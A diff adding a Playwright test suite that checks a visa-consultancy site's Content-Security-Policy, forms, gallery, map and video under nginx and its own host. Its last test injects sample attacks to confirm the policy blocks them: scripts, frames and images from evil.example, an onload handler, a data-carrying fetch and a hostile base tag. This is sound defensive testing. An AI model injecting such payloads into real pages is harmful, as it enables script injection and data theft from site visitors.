@@ -1,0 +1,212 @@
+import type { Browser, Page, Request } from "playwright-core";
+import { launchBrowser } from "../helpers/browser";
+import { hydrated } from "../helpers/hydrated";
+import { fillFields, MESSAGE, REQUEST, sendButton, toast } from "../helpers/lead-forms";
+import { startNginx } from "../helpers/nginx-site";
+import { answerOthers, BADGE, hostsAreWell } from "../helpers/other-hosts";
+import { policyBreaches, watchPolicy } from "../helpers/policy-breaches";
+import { type Site, startSite } from "../helpers/site";
+import { ROUTES } from "../helpers/specification";
+
+let host: Site;
+let browser: Browser;
+
+beforeAll(async () => {
+  [host, browser] = await Promise.all([startSite(), launchBrowser()]);
+});
+
+afterAll(async () => {
+  await browser.close();
+  await host.stop();
+});
+
+describe.each(["nginx", "the host"])("served by %s", (server) => {
+  let site: Site;
+  let page: Page;
+  let asked: Request[];
+  const complaints: string[] = [];
+
+  beforeAll(async () => {
+    site = server === "nginx" ? await startNginx(host.url) : host;
+    const context = await browser.newContext({
+      viewport: { width: 1280, height: 900 },
+      reducedMotion: "reduce",
+    });
+    await watchPolicy(context);
+    asked = await answerOthers(context, site.url, hostsAreWell);
+    page = await context.newPage();
+    page.on("pageerror", ({ message }) => complaints.push(message));
+    page.on("console", (message) => {
+      if (message.type() === "error" && !message.text().includes("404")) complaints.push(message.text());
+    });
+  });
+
+  afterAll(async () => {
+    await page.context().close();
+    if (site !== host) await site.stop();
+  });
+
+  beforeEach(() => {
+    asked.length = 0;
+    complaints.length = 0;
+  });
+
+  async function open(route: string): Promise<void> {
+    await page.goto(site.url + route, { waitUntil: "load" });
+    await hydrated(page);
+  }
+
+  async function expectNoBreach(): Promise<void> {
+    expect(await policyBreaches(page)).toEqual([]);
+    expect(complaints).toEqual([]);
+  }
+
+  test.each([...ROUTES, "/accessibility", "/no-such-page"])("%s runs within its policy", async (route) => {
+    await open(route);
+    await page.evaluate(() => window.scrollTo({ top: document.body.scrollHeight, behavior: "instant" }));
+    await expectNoBreach();
+    expect(asked.map((request) => new URL(request.url()).hostname)).toEqual([]);
+  });
+
+  test("the policy came with the page", async () => {
+    const response = await page.goto(`${site.url}/about`);
+    expect(response?.headers()["content-security-policy"]).toContain("script-src 'self' 'sha256-");
+  });
+
+  test("a tap that the early script kept is answered once the bundles have come", async () => {
+    let deliver = () => {};
+    const delivery = new Promise<void>((resolve) => {
+      deliver = resolve;
+    });
+    await page.route("**/*.js", async (route) => {
+      await delivery;
+      await route.continue();
+    });
+    await page.goto(`${site.url}/about`, { waitUntil: "load" });
+    const countries = page.getByRole("button", { name: "Countries", exact: true });
+    await countries.click();
+    expect(await countries.getAttribute("aria-busy")).toBe("true");
+    deliver();
+    await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "New Zealand" }).waitFor();
+    await page.unroute("**/*.js");
+    await expectNoBreach();
+  });
+
+  test("a reader goes from page to page, and the next page's code and data come", async () => {
+    await open("/");
+    await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Blogs" }).click();
+    await page.waitForURL("**/blogs");
+    await page
+      .getByRole("link", { name: /Visa Application/ })
+      .first()
+      .click();
+    await page.waitForURL("**/visa-application");
+    await expectNoBreach();
+  });
+
+  test("the badge comes, with its picture and its words", async () => {
+    await open("/about");
+    await page.locator("#iasBadge img").waitFor();
+    await page.waitForFunction(() => document.querySelector<HTMLImageElement>("#iasBadge img")?.naturalWidth);
+    expect(asked[0]?.url()).toBe(BADGE);
+    await expectNoBreach();
+  });
+
+  test("both forms complain, send, and say so in a toast", async () => {
+    await open("/contact");
+    await sendButton(page).click();
+    await page.getByText("Email is required").waitFor();
+    await fillFields(page, MESSAGE);
+    await sendButton(page).click();
+    await toast(page, "Message sent successfully!").waitFor();
+    await expectNoBreach();
+    await open("/online-consultation-form");
+    await sendButton(page).click();
+    await page.locator(".Toastify__toast").first().waitFor();
+    await fillFields(page, REQUEST);
+    await sendButton(page).click();
+    await toast(page, "Consultation request submitted successfully!").waitFor();
+    await expectNoBreach();
+  });
+
+  test("the lightbox opens and turns its pages", async () => {
+    await open("/gallery/images");
+    await page.locator("[data-gallery-group] li a").first().click();
+    await page.getByRole("dialog").locator("img").first().waitFor();
+    await page.waitForFunction(() => document.activeElement?.closest("[role=dialog]") !== null);
+    await page.keyboard.press("ArrowRight");
+    await page.keyboard.press("Escape");
+    await page.getByRole("dialog").waitFor({ state: "detached" });
+    await expectNoBreach();
+  });
+
+  test("a map opens", async () => {
+    await open("/contact");
+    await page.getByRole("button", { name: /Show map of the Chennai/ }).click();
+    await page.frameLocator("iframe").getByText("A map").waitFor();
+    await expectNoBreach();
+  });
+
+  test("a video plays", async () => {
+    await open("/gallery/videos");
+    await page
+      .locator("video")
+      .first()
+      .evaluate((video: HTMLVideoElement) => video.play());
+    await expectNoBreach();
+  });
+
+  test("what a stranger slips into a page does not run, nor is it asked for", async () => {
+    await open("/about");
+    const refused = await page.evaluate(async () => {
+      const seen: string[] = [];
+      const next = () =>
+        new Promise<void>((resolve) => {
+          document.addEventListener(
+            "securitypolicyviolation",
+            ({ effectiveDirective }) => {
+              seen.push(effectiveDirective);
+              resolve();
+            },
+            { once: true },
+          );
+        });
+      const attempts = [
+        () => Object.assign(document.createElement("script"), { textContent: "window.ran = 1" }),
+        () => Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" }),
+        () => {
+          const holder = document.createElement("div");
+          holder.innerHTML = `<img src="/favicon.svg" onload="window.ran = 2" alt="">`;
+          return holder;
+        },
+        () => Object.assign(document.createElement("iframe"), { src: "https://evil.example/" }),
+        () => Object.assign(document.createElement("img"), { src: "https://evil.example/x.png" }),
+        () => Object.assign(document.createElement("object"), { data: "https://evil.example/x" }),
+      ];
+      for (const attempt of attempts) {
+        const refusal = next();
+        document.body.append(attempt());
+        await refusal;
+      }
+      const refusal = next();
+      fetch("https://evil.example/?what=typed").catch(() => {});
+      await refusal;
+      const base = next();
+      document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" }));
+      await base;
+      return seen;
+    });
+    expect(refused).toEqual([
+      "script-src-elem",
+      "script-src-elem",
+      "script-src-attr",
+      "frame-src",
+      "img-src",
+      "object-src",
+      "connect-src",
+      "base-uri",
+    ]);
+    expect(await page.evaluate(() => Reflect.get(window, "ran"))).toBeUndefined();
+    expect(asked.filter((request) => request.url().includes("evil"))).toEqual([]);
+  });
+});
